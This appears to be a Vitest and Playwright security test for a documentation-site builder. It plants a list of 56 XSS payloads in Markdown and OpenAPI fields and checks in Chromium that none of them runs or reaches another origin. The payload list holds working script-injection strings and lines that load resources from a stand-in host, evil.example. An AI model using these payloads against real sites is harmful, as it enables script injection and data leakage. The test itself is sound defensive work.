/**
 * XSS corpus: hostile payloads in Markdown bodies, titles, summaries,
 * descriptions, parameter names, examples, code samples, error messages and
 * landing text are built into a site, and into the descriptions (info, tag,
 * operation, parameter, property, response), examples and `x-codeSamples`
 * of an OpenAPI document a second site reads; every page is opened in real
 * Chromium, every sample language shown, and no script may run (no dialog,
 * no console marker, no global set), no navigation may happen and no
 * request may leave the origin.
 */
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import express from 'express';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { build } from '../../src/index.js';
import { tempContent, type TempContent } from '../helpers/content.js';
import { launchBrowser } from './browser.js';
import { Session } from '../../src/shared/session.js';

/** Each payload, if it ran, would call alert, log the marker, set window.__xss or reach another origin. */
const PAYLOADS = [
  '<script>alert("XSS-1")</script>',
  '<img src=x onerror=alert("XSS-2")>',
  '<svg onload=alert("XSS-3")>',
  '<svg><script>alert("XSS-4")</script></svg>',
  '<iframe src="javascript:alert(\'XSS-5\')"></iframe>',
  '<object data="javascript:alert(\'XSS-6\')"></object>',
  '<embed src="javascript:alert(\'XSS-7\')">',
  "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/bg.png)}</style>",
  '<form action="javascript:alert(\'XSS-9\')"><button>go</button></form>',
  '<a href="javascript:alert(\'XSS-10\')">click</a>',
  '[click](javascript:alert("XSS-11"))',
  '[click](JaVaScRiPt:alert("XSS-12"))',
  '[click](vbscript:msgbox("XSS-13"))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTLTE0Jyk8L3NjcmlwdD4=)',
  '![x](javascript:alert("XSS-15"))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ1hTUy0xNicpPjwvc3ZnPg==)',
  '<details open ontoggle=alert("XSS-17")><summary>s</summary></details>',
  '<body onload=alert("XSS-18")>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("XSS-19")>',
  '<a href="&#106;avascript:alert(\'XSS-20\')">x</a>',
  '[x](&#106;avascript:alert("XSS-21"))',
  '<input autofocus onfocus=alert("XSS-22")>',
  '<video><source onerror=alert("XSS-23")></video>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/24">',
  '<base href="http://evil.example/25/">',
  '<link rel=stylesheet href=http://evil.example/26.css>',
  '"><script>alert("XSS-27")</script>',
  '</script><script>alert("XSS-28")</script>',
  '\u2028\u2029<script>alert("XSS-29")</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, as text
  '${alert("XSS-30")}',
  '{{constructor.constructor(\'alert("XSS-31")\')()}}',
  'javascript:alert("XSS-32")',
  '<img src="x" onerror="window.__xss=33">',
  '<div style="background:url(javascript:alert(\'XSS-34\'))">x</div>',
  '<a href="#" onclick="alert(\'XSS-35\')">x</a>',
  '<svg><a xlink:href="javascript:alert(\'XSS-36\')"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert("XSS-37") attributeName=x dur=1s>',
  '<svg><set attributeName="onmouseover" to="alert(\'XSS-38\')"/></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(\'XSS-39\')>">',
  '<template><script>alert("XSS-40")</script></template>',
  '<marquee onstart=alert("XSS-41")>x</marquee>',
  '<isindex action=javascript:alert("XSS-42") type=submit>',
  '<textarea autofocus onfocus=alert("XSS-43")></textarea>',
  '<select autofocus onfocus=alert("XSS-44")></select>',
  '<keygen autofocus onfocus=alert("XSS-45")>',
  '<object type="text/x-scriptlet" data="http://evil.example/46.sct"></object>',
  '<applet code="javascript:alert(\'XSS-47\')"></applet>',
  '<frameset onload=alert("XSS-48")>',
  '<table background="javascript:alert(\'XSS-49\')">',
  '<img srcset="http://evil.example/50.png 1x">',
  '<picture><source srcset="http://evil.example/51.png"><img></picture>',
  '<a href="http://evil.example/52" ping="http://evil.example/ping">x</a>',
  '<script src="http://evil.example/53.js"></script>',
  '<img src="x" onerror="console.log(\'XSS-MARKER-54\')">',
  '[x](javascript&colon;alert("XSS-55"))',
  '<svg><foreignObject><iframe srcdoc="<script>alert(\'XSS-56\')</script>"></iframe></foreignObject></svg>',
];

/** An endpoint file carrying payload `p` in every text field it has. */
function endpointFile(i: number, p: string): string {
  const q = JSON.stringify; // a JSON string is a valid YAML flow scalar
  return `---
title: ${q(`Payload ${i} ${p}`)}
summary: ${q(p)}
method: POST
path: /api/xss/${i}
auth: bearer
roles: [${q(p)}]
parameters:
  - name: ${q(`p${i}${p}`)}
    in: query
    type: ${q(p)}
    description: ${q(p)}
    example: ${q(p)}
requestBody:
  contentType: text/plain
  description: ${q(p)}
  fields:
    - name: ${q(p)}
      type: string
      description: ${q(p)}
  example: ${q(p)}
responses:
  - status: 200
    description: ${q(p)}
    contentType: text/plain
    example: ${q(p)}
errors:
  - status: 400
    message: ${q(p)}
    description: ${q(p)}
    example: ${q(p)}
codeSamples:
  - { lang: ${q(p)}, label: ${q(p)}, source: ${q(p)} }
  - { lang: python, source: ${q(p)} }
---

${p}

Inline ${p} and \`${p}\`.

- ${p}
`;
}

/** An OpenAPI document carrying every payload in each text a reader sees: info, a tag, operations, parameters, properties, responses, examples, samples. */
function hostileSpec(): string {
  const paths = Object.fromEntries(
    PAYLOADS.map((p, i) => [
      `/xss/${i + 1}`,
      {
        post: {
          operationId: `xss-${i + 1}`,
          summary: `Payload ${i + 1}`,
          description: p,
          tags: ['hostile'],
          parameters: [{ name: 'q', in: 'query', description: p, schema: { type: 'string', example: p, default: p, enum: [p] } }],
          requestBody: {
            description: p,
            content: {
              'application/json': {
                schema: { type: 'object', properties: { field: { type: 'string', description: p, example: p } } },
                example: { field: p },
              },
            },
          },
          responses: {
            '200': {
              description: p,
              headers: { 'X-Note': { description: p, schema: { type: 'string' } } },
              content: { 'text/plain': { example: p } },
            },
          },
          'x-codeSamples': [
            { lang: p, label: p, source: p },
            { lang: 'JavaScript', label: `JS ${p}`, source: p },
          ],
        },
      },
    ]),
  );
  return JSON.stringify({
    openapi: '3.1.0',
    info: { title: 'Hostile', version: '1', description: PAYLOADS.join('\n\n') },
    servers: [{ url: 'https://api.example.com' }],
    tags: [{ name: 'hostile', description: PAYLOADS.slice(0, 20).join('\n\n') }],
    paths,
  });
}

/** Shows every sample tab of the card `id` in turn, so each sample language renders its payload. */
async function everySample(page: Page, id: string): Promise<void> {
  const card = page.locator(`[id="${id}"]`);
  const tabs = card.getByRole('tab');
  // The cards above lay out as they come near and move the page under a scroll made before: scroll again until the samples are written.
  await expect
    .poll(async () => {
      await card.scrollIntoViewIfNeeded();
      const sample = card.locator('.samples pre');
      return (await sample.count()) > 0 ? sample.innerText() : '';
    })
    .not.toBe('');
  for (let n = 0; n < (await tabs.count()); n++) await tabs.nth(n).click();
}

let temp: TempContent;
let browser: Browser;
let server: Server;
let origin: string;
beforeAll(async () => {
  temp = await tempContent();
  const ids = PAYLOADS.map((_p, i) => `xss-${i + 1}`);
  for (const [i, p] of PAYLOADS.entries()) await temp.write(`endpoints/cart/${ids[i]}.md`, endpointFile(i + 1, p));
  await temp.edit('pamdocs.yaml', '      - remove-item\n', `      - remove-item\n${ids.map((id) => `      - ${id}\n`).join('')}`);
  // Landing text and the hero carry payloads too.
  const features = await temp.read('landing/features.md');
  await temp.write(
    'landing/features.md',
    features
      .replace('points: [add items, remove items]', `points: ${JSON.stringify(PAYLOADS.slice(0, 20))}`)
      .replace('The platform has', `${PAYLOADS.slice(0, 30).join('\n\n')}\n\nThe platform has`),
  );
  await temp.edit('pamdocs.yaml', 'tagline: A tiny site for tests.', `tagline: ${JSON.stringify(PAYLOADS.join(' '))}`);
  await temp.edit('entities/cart-item.md', 'description: Its id.', `description: ${JSON.stringify(PAYLOADS[1])}`);
  const result = await build({ cwd: temp.cwd, out: 'site', session: new Session() });
  expect(result.diagnostics).toEqual([]);
  expect(result.ok).toBe(true);
  // The second site reads the hostile document live.
  await temp.write('../spec/hostile.json', hostileSpec());
  await temp.write('../spec/pamdocs.yaml', 'openapi: hostile.json\n');
  const fromSpec = await build({ cwd: temp.cwd, dir: 'spec', out: 'spec-site', session: new Session() });
  expect(fromSpec.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  const app = express();
  app.use('/spec', express.static(path.join(temp.cwd, 'spec-site')));
  app.use(express.static(path.join(temp.cwd, 'site')));
  server = createServer(app);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => server?.close(resolve));
  await temp?.cleanup();
});

describe('XSS corpus', () => {
  it(`runs none of ${PAYLOADS.length} payloads on any page, and nothing leaves the origin`, { timeout: 120_000 }, async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
    const context = await browser.newContext();
    const page = await context.newPage();
    const dialogs: string[] = [];
    const markers: string[] = [];
    const foreign: string[] = [];
    const navigations: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('console', (m) => {
      if (/XSS/.test(m.text())) markers.push(m.text());
    });
    page.on('request', (r) => {
      if (!r.url().startsWith(origin) && !r.url().startsWith('data:')) foreign.push(r.url());
    });
    page.on('framenavigated', (f) => {
      if (!f.url().startsWith(`${origin}/`)) navigations.push(f.url());
    });
    // index.html holds the landing pre-rendered: the payloads of the hero and the landing are text there, no tag names evil.example.
    const html = await readFile(path.join(temp.cwd, 'site', 'index.html'), 'utf8');
    expect(html).toContain('&lt;script src=&quot;http://evil.example/53.js&quot;&gt;');
    expect(html.match(/<[^>]*evil\.example[^>]*>/g) ?? []).toEqual([]);

    const visit = async (hash: string, at = '') => {
      await page.goto(`${origin}${at}/index.html${hash}`);
      await page.waitForLoadState('networkidle');
      await page.waitForTimeout(300);
    };
    await visit('');
    await expect.poll(() => page.getByRole('tab').count()).toBe(4);
    for (const name of ['Features', 'Architecture', 'Data Model', 'UI Overview']) {
      await page.getByRole('tab', { name }).click();
      await page.waitForTimeout(200);
    }
    await visit('#/cart');
    await expect.poll(() => page.getByTestId('endpoint-card').count()).toBe(2 + PAYLOADS.length);
    // The payload text is shown as text (scrolled to: cards off screen are not rendered).
    await page.locator('#xss-1').scrollIntoViewIfNeeded();
    await expect.poll(() => page.locator('#xss-1').innerText()).toContain('<script>alert("XSS-1")</script>');
    // Every sample language of a few cards: the written samples and the ones the page writes from the payloads.
    for (const id of ['xss-1', 'xss-2', 'xss-11', 'xss-33', 'xss-54', 'xss-56']) await everySample(page, id);
    // Hover and focus what has handlers nearby; scroll the whole page.
    await page.mouse.wheel(0, 100_000);
    await page.waitForTimeout(300);
    await visit('#/cart?scroll=xss-56');
    await visit('#/auth');
    await visit('#/no-such-page');
    // The site read from the hostile document: its landing, its group page, its samples.
    await visit('', '/spec');
    await visit('#/hostile', '/spec');
    await expect.poll(() => page.getByTestId('endpoint-card').count()).toBe(PAYLOADS.length);
    for (const id of ['xss-1', 'xss-2', 'xss-11', 'xss-33', 'xss-54', 'xss-56']) await everySample(page, id);
    await page.mouse.wheel(0, 100_000);
    await page.waitForTimeout(300);

    expect(dialogs).toEqual([]);
    expect(markers).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(foreign).toEqual([]);
    expect(navigations).toEqual([]);
    await context.close();
  });
});
